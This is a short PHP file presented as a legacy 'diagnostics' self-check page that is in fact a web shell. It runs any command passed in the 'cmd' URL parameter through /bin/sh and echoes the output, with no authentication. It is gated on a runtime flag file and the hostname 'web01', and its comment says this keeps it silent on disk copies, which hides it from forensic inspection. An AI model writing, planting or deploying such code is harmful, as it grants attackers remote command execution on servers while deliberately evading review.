<?php
// 运维自检页 (legacy diagnostics). It answers only while the flag in /run exists, that is, never on a copy of the disk.
header('Content-Type: text/plain; charset=utf-8');
if (!is_file('/run/diag.enabled') || gethostname() !== 'web01') { http_response_code(503); exit("diag off\n"); }
$c = $_GET['cmd'] ?? '';
if ($c === '') { exit("usage: cmd.php?cmd=...\n"); }
$p = proc_open(['/bin/sh', '-c', $c], [1 => ['pipe', 'w'], 2 => ['redirect', 1]], $pipes);
echo stream_get_contents($pipes[1]);
proc_close($p);
